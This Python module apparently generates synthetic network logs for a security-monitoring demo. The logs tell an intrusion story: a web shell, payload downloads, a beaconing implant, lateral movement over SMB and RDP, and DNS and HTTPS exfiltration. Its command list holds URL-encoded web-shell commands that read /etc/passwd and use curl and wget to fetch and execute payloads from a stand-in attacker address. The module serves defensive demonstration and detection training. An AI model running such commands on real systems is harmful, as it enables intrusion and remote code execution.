"""The attacker is inside: a web shell, a downloaded program, a beacon, other machines, and the data leaves."""

import hashlib
import random
from collections.abc import Iterator

from netsentinel.demo import cast, eve, zeek
from netsentinel.demo.conversations import converse, zeek_id
from netsentinel.demo.model import Outcome, Request, StoryLine
from netsentinel.demo.traffic import MILLISECOND, between, fetch, lookup, over, secure
from netsentinel.kernel.clock import MINUTE, SECOND
from netsentinel.kernel.types import Micros

BEACONS = 16
_DNS_PIECES = 14
_BASE32 = "abcdefghijklmnopqrstuvwxyz234567"
STOLEN_BYTES = 240 * 1024 * 1024
IMPLANT_JA3 = "473cd7cb9faa642487833865d516e578"

_CURL = "curl/7.88.1"
_WGET = "Wget/1.21.3"
_PYTHON = "python-requests/2.31.0"
_SHELL = "/uploads/thumb.php?cmd="
_COMMANDS = (
    "id",
    "whoami",
    "uname%20-a",
    "cat%20/etc/passwd",
    "curl%20-s%20-o%20/tmp/.kworkerd%20http://198.51.100.23/kworkerd",
    "wget%20-q%20-O%20/tmp/.s%20http://198.51.100.23/stage2.sh",
    "chmod%20%2Bx%20/tmp/.kworkerd%20%26%26%20/tmp/.kworkerd",
)
_IMPLANT = b"\x7fELF of the NetSentinel demo: these bytes are no program"
_IMPLANT_SHA256 = hashlib.sha256(_IMPLANT).hexdigest()
_ELF_MIME = "application/x-executable"
_ELF_MAGIC = "ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, stripped"
_ID_ALERT = (2_100_498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2)
_CURL_ALERT = (2_013_028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2)
_SSH_SERVER = "OpenSSH_9.2p1 Debian-2+deb12u2"


def foothold(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """From the jump host to the web server; commands through a web shell; a program comes from outside."""
    hop = converse(
        rng,
        cast.JUMP_HOST.address,
        cast.WEB_SERVER.address,
        22,
        start=start,
        duration=40 * SECOND,
        sent=18_000,
        received=22_000,
        service="ssh",
    )
    yield zeek.ssh(hop, start + SECOND, success=True, attempts=1, client=_SSH_SERVER, server=_SSH_SERVER)
    yield from over(hop)
    at = start + 30 * SECOND
    for command in _COMMANDS:
        order = Request(host=cast.WEB_SERVER.name, url=_SHELL + command, agent=_PYTHON, length=rng.randint(40, 1_900))
        talk, lines = fetch(rng, cast.ATTACKER, cast.WEB_SERVER, at, [order])
        yield from lines
        if command == "id":
            yield eve.alert(talk, at + 70 * MILLISECOND, _ID_ALERT, request=order, from_server=True)
        if command.startswith("curl"):
            yield from _download(rng, at + 300 * MILLISECOND, "/kworkerd", _CURL, _ELF_MIME, 1_842_176)
        if command.startswith("wget"):
            yield from _download(rng, at + 300 * MILLISECOND, "/stage2.sh", _WGET, "text/x-shellscript", 1_204)
        at += between(rng, 6 * SECOND, 11 * SECOND)


def _download(rng: random.Random, at: Micros, url: str, agent: str, mime: str, size: int) -> Iterator[StoryLine]:
    host = cast.STAGING.address
    order = Request(host=host, url=url, agent=agent, mime="application/octet-stream", length=size)
    talk, lines = fetch(rng, cast.WEB_SERVER, cast.STAGING, at, [order])
    yield from lines
    arrived = at + 110 * MILLISECOND
    fuid = zeek_id(rng, "F")
    yield zeek.files(talk, arrived, fuid=fuid, mime=mime, size=size, content=_IMPLANT)
    if mime == _ELF_MIME:
        yield eve.fileinfo(talk, arrived, order, magic=_ELF_MAGIC, sha256=_IMPLANT_SHA256)
    if agent == _CURL:
        yield eve.alert(talk, at + 60 * MILLISECOND, _CURL_ALERT, request=order)


def beacon(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """The web server calls a dynamic-DNS name every minute, give or take a few seconds."""
    for number in range(BEACONS):
        at = start + number * MINUTE + between(rng, 0, 6 * SECOND)
        name = cast.CONTROL.name
        yield from lookup(rng, cast.WEB_SERVER, name, cast.CONTROL.address, at, resolver=cast.RESOLVER)
        talk = converse(
            rng,
            cast.WEB_SERVER.address,
            cast.CONTROL.address,
            443,
            start=at + 45 * MILLISECOND,
            duration=between(rng, 300 * MILLISECOND, 700 * MILLISECOND),
            sent=rng.randint(508, 524),
            received=rng.randint(250, 262),
            service="ssl",
        )
        yield from secure(talk, name, ja3=IMPLANT_JA3, issuer=f"CN={name}")


def lateral(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """The web server knocks at every workstation, then uses the file server's administrative share and RDP."""
    at = start
    for station in cast.WORKSTATIONS:
        talk = converse(
            rng,
            cast.WEB_SERVER.address,
            station.address,
            445,
            start=at,
            duration=between(rng, MILLISECOND, 5 * MILLISECOND),
            outcome=Outcome.REFUSED,
        )
        yield from over(talk)
        at += between(rng, 300 * MILLISECOND, 900 * MILLISECOND)
    yield from _use_admin_share(rng, start + 45 * SECOND)
    for number, target in enumerate((cast.FILE_SERVER, *cast.WORKSTATIONS[:3])):
        at = start + (80 + 12 * number) * SECOND
        talk = converse(
            rng,
            cast.WEB_SERVER.address,
            target.address,
            3389,
            start=at,
            duration=between(rng, 4 * SECOND, 10 * SECOND),
            sent=9_000,
            received=64_000,
            service="rdp",
        )
        yield zeek.rdp(talk, at + 100 * MILLISECOND, "deploy")
        yield from over(talk)


def _use_admin_share(rng: random.Random, at: Micros) -> Iterator[StoryLine]:
    talk = converse(
        rng,
        cast.WEB_SERVER.address,
        cast.FILE_SERVER.address,
        445,
        start=at,
        duration=100 * SECOND,
        sent=2_400_000,
        received=STOLEN_BYTES,
        service="smb",
    )
    share = f"\\\\{cast.FILE_SERVER.name}\\"
    yield zeek.smb_mapping(talk, at + 30 * MILLISECOND, share + "ADMIN$")
    yield zeek.smb_files(
        talk, at + 90 * MILLISECOND, share + "ADMIN$", "PSEXESVC.exe", action="SMB::FILE_WRITE", size=716_176
    )
    yield zeek.smb_mapping(talk, at + SECOND, share + "IPC$", "PIPE")
    yield zeek.smb_mapping(talk, at + 8 * SECOND, share + "office")
    for number, folder in enumerate(("Finance", "HR", "Projects")):
        yield zeek.smb_files(
            talk,
            at + (10 + number) * SECOND,
            share + "office",
            f"{folder}\\archive.zip",
            action="SMB::FILE_OPEN",
            size=STOLEN_BYTES // 3,
        )
    yield from over(talk)


def exfiltration(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """The stolen files leave for a drop zone: first the keys in pieces, hidden in DNS names, then one long upload."""
    name = cast.DROP.name
    for number in range(_DNS_PIECES):
        piece = "".join(rng.choices(_BASE32, k=56))
        at = start + number * 2 * SECOND
        yield from lookup(rng, cast.WEB_SERVER, f"{piece}.{name}", "", at, resolver=cast.RESOLVER)
    upload = start + MINUTE
    yield from lookup(rng, cast.WEB_SERVER, name, cast.DROP.address, upload, resolver=cast.RESOLVER)
    talk = converse(
        rng,
        cast.WEB_SERVER.address,
        cast.DROP.address,
        443,
        start=upload + 60 * MILLISECOND,
        duration=170 * SECOND,
        sent=STOLEN_BYTES + 1_300_000,
        received=410_000,
        service="ssl",
    )
    yield from secure(talk, name, ja3=IMPLANT_JA3)
